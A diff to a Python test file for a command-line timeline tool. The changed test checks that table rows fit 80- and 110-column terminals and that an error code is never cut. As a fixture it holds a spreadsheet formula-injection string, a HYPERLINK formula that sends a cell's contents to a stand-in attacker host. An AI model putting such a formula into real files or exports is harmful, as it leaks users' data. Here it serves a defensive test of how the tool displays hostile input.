@@ -228,18 +228,20 @@ def test_since_and_until_without_an_offset_are_read_in_the_tz_zone(hostile: Path
     assert explicit.json()["range"] == berlin.json()["range"]  # an explicit offset wins over --tz
 
 
-def test_the_table_fits_the_terminal_width_clipping_details_first(hostile: Path, monkeypatch) -> None:
+def test_the_table_fits_the_terminal_width_clipping_details_first_and_never_cutting_an_error_code(hostile: Path, monkeypatch) -> None:
     wide = run_coco("timeline", "DX1", "--store", str(hostile))
     assert max(len(line) for line in wide.out.splitlines()) > 80  # without a width the details run long
-    monkeypatch.setenv("COLUMNS", "80")
-    narrow = run_coco("timeline", "DX1", "--store", str(hostile))
-    rows = [line for line in narrow.out.splitlines() if line.startswith("10:0")]
-    assert rows and all(len(line) <= 80 for line in rows), [len(x) for x in rows]
-    assert rows[0].endswith("R-1")  # the ids stay; the details gave way
-    monkeypatch.setenv("COLUMNS", "110")
-    rows = [line for line in run_coco("timeline", "DX1", "--store", str(hostile)).out.splitlines() if line.startswith("10:0")]
-    assert all(len(line) <= 110 for line in rows) and rows[0].endswith("R-1")
-    assert "=HYPERLINK(" in rows[1] and rows[1].endswith("…")  # details clipped, with a mark
+    code = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    for columns in (80, 110):
+        monkeypatch.setenv("COLUMNS", str(columns))
+        lines = run_coco("timeline", "DX1", "--store", str(hostile)).out.splitlines()
+        rows = [line for line in lines if line.startswith("10:0")]
+        assert len(rows) == 4 and all(len(line) <= columns for line in lines), [len(x) for x in lines]
+        assert rows[0].endswith("R-1")  # the ids stay; the details gave way
+        assert rows[2].endswith("…")  # details clipped, with a mark
+        # the error's code and message do not fit beside the row: on a line of their own under it, the code whole
+        failed = lines.index(rows[1])
+        assert rows[1].endswith("✖ delivery.failed") and lines[failed + 1].startswith(f"              ↳ {code}: stuck")
 
 
 def test_the_table_header_lists_the_robot_and_pilot_windows(hostile: Path) -> None:
